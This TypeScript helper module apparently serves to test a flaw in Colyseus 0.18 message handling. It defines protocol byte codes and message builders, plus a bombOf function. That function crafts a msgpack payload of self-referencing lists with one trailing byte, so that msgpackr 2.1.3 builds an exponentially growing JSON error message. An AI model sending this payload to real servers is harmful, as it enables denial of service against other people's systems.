/** First bytes of Colyseus 0.18. */
export const BYTE = {
  join: 10,
  error: 11,
  leave: 12,
  message: 13,
  state: 14,
  bytes: 17,
  ping: 18,
  input: 19,
  request: 21,
  response: 22,
} as const;

export function nameOf(name: string): Buffer {
  return Buffer.concat([Buffer.of(0xd9, name.length), Buffer.from(name)]);
}

export function messageOf(name: string, payload: Uint8Array = Buffer.of()): Buffer {
  return Buffer.concat([Buffer.of(BYTE.message), nameOf(name), payload]);
}

export function requestOf(name: string, payload: Uint8Array = Buffer.of()): Buffer {
  return Buffer.concat([Buffer.of(BYTE.request, 1), nameOf(name), payload]);
}

/**
 * A payload of shared references: each list holds the one before it twice, by extensions 0x69 (this is number n) and
 * 0x70 (number n again), and one byte too many follows. msgpackr 2.1.3 then writes the whole as JSON for its message, which
 * doubles with every list.
 */
export function bombOf(lists: number): Buffer {
  const mark = (n: number) => [0xd6, 0x69, 0, 0, 0, n];
  const again = (n: number) => [0xd6, 0x70, 0, 0, 0, n];
  const bytes = [0xdc, 0, lists + 1, ...mark(0), 0x92, 0xc0, 0xc0];
  for (let n = 1; n <= lists; n += 1) bytes.push(...mark(n), 0x92, ...again(n - 1), ...again(n - 1));
  return Buffer.from([...bytes, 0]);
}
